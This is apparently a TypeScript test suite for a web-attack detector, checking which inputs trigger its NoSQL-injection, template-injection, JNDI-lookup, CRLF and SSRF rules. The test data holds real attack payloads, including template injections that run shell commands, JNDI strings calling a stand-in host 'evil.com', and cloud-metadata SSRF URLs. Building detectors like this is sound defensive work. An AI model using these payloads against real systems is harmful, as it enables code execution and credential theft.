import type { Paranoia } from '../../engine/threat.types.js';
import { otherDetector } from './other.detector.js';

const matches = (input: string, paranoia: Paranoia = 1) => otherDetector.detect({ raw: input, forms: [input] }, paranoia);
const ruleIds = (input: string, paranoia: Paranoia = 1): string[] => matches(input, paranoia).map((m) => m.ruleId);

describe('other rules', () => {
  it.each([
    ['other-001', 'nosqli', '$ne'],
    ['other-001', 'nosqli', 'user[$ne]=x'],
    ['other-001', 'nosqli', '{"username": {"$gt": ""}}'],
    ['other-001', 'nosqli', "{$where: 'sleep(1000)'}"],
    ['other-001', 'nosqli', 'password[$regex]=^a'],
    ['other-010', 'ssti', '{{7*7}}'],
    ['other-010', 'ssti', "{{7*'7'}}"],
    ['other-010', 'ssti', '<%= 7*7 %>'],
    ['other-010', 'ssti', "#{runtime.exec('id')}"],
    ['other-010', 'ssti', "<% system('id') %>"],
    ['other-010', 'ssti', '${7*7}'],
    ['other-010', 'ssti', "{% import os %}{{ os.popen('id').read() }}"],
    ['other-011', 'ssti', "''.__class__.__mro__[1].__subclasses__()"],
    ['other-011', 'ssti', 'x.constructor.constructor("return process")()'],
    ['other-012', 'ssti', '${jndi:ldap://evil.com/a}'],
    ['other-012', 'ssti', '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/a}'],
    ['other-012', 'ssti', '${${env:FOO:-j}ndi:rmi://x/a}'],
    ['other-020', 'crlf', 'foobar\r\nContent-Length: 0'],
    ['other-020', 'crlf', 'x\r\nSet-Cookie: session=1'],
    ['other-020', 'crlf', '\r\nRemote-addr\r\r\r: foo.bar.com'],
    ['other-020', 'crlf', 'Headerdata\rInjectedHeader: response_splitting_code'],
    ['other-022', 'crlf', 'aaa\nGET / HTTP/1.1'],
    ['other-022', 'crlf', 'GET http://www.foo.bar HTTP/1.2'],
    ['other-022', 'crlf', 'x\r\n\r\nHTTP/1.1 200 OK'],
    ['other-022', 'crlf', 'munch\r\n\r\n<HTML><title></title></HTML>'],
    ['other-030', 'ssrf', 'http://169.254.169.254/latest/meta-data/'],
    ['other-030', 'ssrf', 'http://metadata.google.internal/computeMetadata/v1/'],
    ['other-030', 'ssrf', 'http://100.100.100.200/latest/meta-data/'],
    ['other-030', 'ssrf', 'http://127.0.0.1:8080/admin'],
    ['other-030', 'ssrf', 'http://127.1/'],
    ['other-030', 'ssrf', 'http://2130706433/'],
    ['other-030', 'ssrf', 'http://0x7f000001/'],
    ['other-030', 'ssrf', 'http://0177.0.0.1/'],
    ['other-030', 'ssrf', 'http://0.0.0.0:6379/'],
    ['other-030', 'ssrf', 'http://[::1]/'],
    ['other-030', 'ssrf', 'http://[::ffff:127.0.0.1]/'],
    ['other-030', 'ssrf', 'http://[::ffff:7f00:1]/'],
    ['other-030', 'ssrf', 'http://user@localhost/'],
    ['other-030', 'ssrf', 'gopher://internal:6379/_INFO'],
    ['other-030', 'ssrf', 'dict://127.0.0.1:11211/stat'],
    ['other-030', 'ssrf', 'localhost/'],
    ['other-030', 'ssrf', 'http:127.0.0.1'],
    ['other-030', 'ssrf', '169.254.169.254'],
    ['other-030', 'ssrf', 'http://127.0.0.1.nip.io/'],
    ['other-030', 'ssrf', 'http://169.254.169.254.xip.io/latest'],
    ['other-030', 'ssrf', 'http://127.000.000.1/'],
    ['other-030', 'ssrf', 'http://0/'],
  ])('%s (%s) catches %j at paranoia 1', (ruleId, kind, input) => {
    const match = matches(input).find((m) => m.ruleId === ruleId);
    expect(match?.kind).toBe(kind);
    expect(match?.class).toBe('other');
  });

  it.each([
    'It costs $100, or $ne... never mind',
    'price in $',
    'Hello {{ user.name }}',
    'const s = `${name}`',
    '#{greeting} world',
    'Name: John\r\nLocation: Paris',
    '\n\rlocation:\n\r',
    'get it\n',
    'localhost',
    'Run the app at http://localhost:3000 and open it',
    'ping 127.0.0.1',
    '127.0.0.1',
    '10.0.0.1',
    '1/26/11',
    '77921690/TURQUOISE-NATURAL',
    'https://example.com/path?q=1',
    'http://203.0.113.10/file',
    'version 127.0.1 released',
    'obj.__class__',
    'http://8.8.8.8.nip.io/',
    'sftp://files.example.com/upload',
  ])('leaves %j alone at paranoia 1', (input) => {
    expect(ruleIds(input)).toEqual([]);
  });

  it('keeps weaker signals for higher paranoia', () => {
    expect(ruleIds('http://10.0.0.5/hook', 2)).toContain('other-031');
    expect(ruleIds('use $regex carefully', 3)).toContain('other-002');
    expect(ruleIds('Name: John\r\nEmail: a@b.c', 3)).toContain('other-021');
    expect(ruleIds('http://10.0.0.5/hook', 1)).toEqual([]);
  });
});
